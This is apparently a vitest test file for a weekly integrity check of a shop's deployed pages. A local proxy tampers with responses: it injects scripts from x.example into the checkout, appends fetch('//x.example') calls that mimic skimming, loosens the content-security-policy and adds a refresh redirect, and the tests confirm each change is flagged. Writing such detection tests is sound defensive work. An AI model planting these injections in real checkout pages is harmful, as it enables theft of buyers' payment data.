/** The weekly look at the deployed pages (`npm run doctor`): what is changed on the way to a buyer is seen, whoever changed it. */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { deployedPageLines } from "../../scripts/going-live/checks/deployed-pages.ts";
import { configFor } from "../../scripts/going-live/needs.ts";
import { terminalOf } from "../support/going-live.ts";
import { createWorld, type World } from "../support/world.ts";

interface Passing {
  headers: Record<string, string>;
  body: string;
}

let world: World;
let network: Server;
/** What somebody between the worker and a buyer does to an answer. */
let tamper: (answer: Passing, path: string) => void = () => {};

beforeEach(() => world.reset());
beforeAll(async () => {
  world = await createWorld({ seed: "deployed" });
  network = createServer(async (request, response) => {
    const answer = await world.fetch(request.url ?? "/");
    const passing = { headers: Object.fromEntries(answer.headers), body: await answer.text() };
    for (const name of ["content-length", "transfer-encoding", "content-encoding"]) delete passing.headers[name];
    tamper(passing, request.url ?? "/");
    response.writeHead(answer.status, passing.headers).end(passing.body);
  });
  await new Promise<void>((resolve) => network.listen(0, "127.0.0.1", resolve));
});
afterEach(() => {
  tamper = () => {};
});
afterAll(async () => {
  await new Promise((resolve) => network.close(resolve));
  await world.close();
});

async function look(): Promise<string[]> {
  const { env } = terminalOf(world).settings;
  const url = `http://localhost:${(network.address() as AddressInfo).port}`;
  const keys = ["PUBLIC_URL", "META_GRAPH_URL", "STRIPE_SECRET_KEY", "STRIPE_JS_URL"];
  const lines = await deployedPageLines(configFor({ ...env, PUBLIC_URL: url }, keys));
  return lines.map(({ state, says }) => `${state}: ${says}`);
}

test("as they were deployed, with what a network adds, the pages are good", async () => {
  tamper = ({ headers }) => Object.assign(headers, { "cf-ray": "8f-MXP", server: "cloudflare", nel: "{}" });
  expect(await look()).toEqual(["good: have the headers and scripts of this version, and no others (9 looked at)"]);
});

const inPage = (page: string, change: (answer: Passing) => void) => (answer: Passing, path: string) => {
  if (path === page) change(answer);
};
const header = (page: string, name: string, change: (value: string) => string | null) =>
  inPage(page, ({ headers }) => {
    const value = change(headers[name] ?? "");
    if (value === null) delete headers[name];
    else headers[name] = value;
  });
const body = (page: string, change: (html: string) => string) =>
  inPage(page, (answer) => {
    answer.body = change(answer.body);
  });

describe("is seen and named when", () => {
  test.each<[string, typeof tamper, RegExp]>([
    [
      "the checkout has one script more",
      body("/c", (html) => html.replace("</body>", "<SCRIPT src=//x.example/s.js></SCRIPT></body>")),
      /^wrong: \/c: has 3 scripts, and not 2$/,
    ],
    [
      "a script is never closed",
      body("/c", (html) => `${html}<script src=//x.example/s.js>`),
      /^wrong: \/c: has 3 scripts/,
    ],
    [
      "the checkout's script sends what it reads elsewhere",
      body("/c", (html) => html.replace("</script></body>", ";fetch('//x.example')</script></body>")),
      /^wrong: \/c: script 2 of 2 is another \(sha256-/,
    ],
    [
      "a script loses its nonce",
      body("/b/doctor", (html) => html.replace(/ nonce="[^"]+">(?=[^<])/g, ">")),
      /^wrong: \/b\/doctor: script \d of 2 is another/,
    ],
    [
      "a data block becomes a script",
      body("/c/doctor", (html) => html.replace('type="application/json"', "")),
      /^wrong: \/c\/doctor: script 1 of 2 is another/,
    ],
    [
      "a paper has a script",
      body("/o/doctor", (html) => html.replace("</main>", "<script>1</script></main>")),
      /^wrong: \/o\/doctor: has 1 scripts, and not 0$/,
    ],
    [
      "the extras are others",
      body("/extras/en.js", (code) => `${code};fetch('//x.example')`),
      /^wrong: \/extras\/en\.js: script 1 of 1 is another/,
    ],
    [
      "the policy allows one host more",
      header("/c", "content-security-policy", (policy) => policy.replace("script-src", "script-src https://x.example")),
      /^wrong: \/c: the header content-security-policy is another$/,
    ],
    [
      "the policy is missing",
      header("/console", "content-security-policy", () => null),
      /^wrong: \/console: the header content-security-policy is missing$/,
    ],
    [
      "anybody may frame the page",
      header("/c", "content-security-policy", (policy) => policy.replace(/frame-ancestors [^;]+/, "frame-ancestors *")),
      /content-security-policy is another/,
    ],
    [
      "others may read it",
      header("/c", "access-control-allow-origin", () => "*"),
      /^wrong: \/c: there is a header access-control-allow-origin$/,
    ],
    ["the browser is sent elsewhere", header("/c", "refresh", () => "0;url=//x.example"), /there is a header refresh$/],
    [
      "a cache may keep it",
      header("/b/doctor", "cache-control", () => "public"),
      /^wrong: \/b\/doctor: the header cache-control is another$/,
    ],
    ["devices are allowed", header("/c", "permissions-policy", () => null), /permissions-policy is missing$/],
  ])("%s", async (_, change, says) => {
    tamper = change;
    const [fault = "", ...others] = await look();
    expect(fault).toMatch(says);
    expect(others.every((other) => other.startsWith("wrong"))).toBe(true);
  });
});

test("a shop that is not there yet is said to be not looked at", async () => {
  await world.sql`truncate shop cascade`;
  expect(await look()).toEqual(["unchecked: not checked: the shop and its database first"]);
});
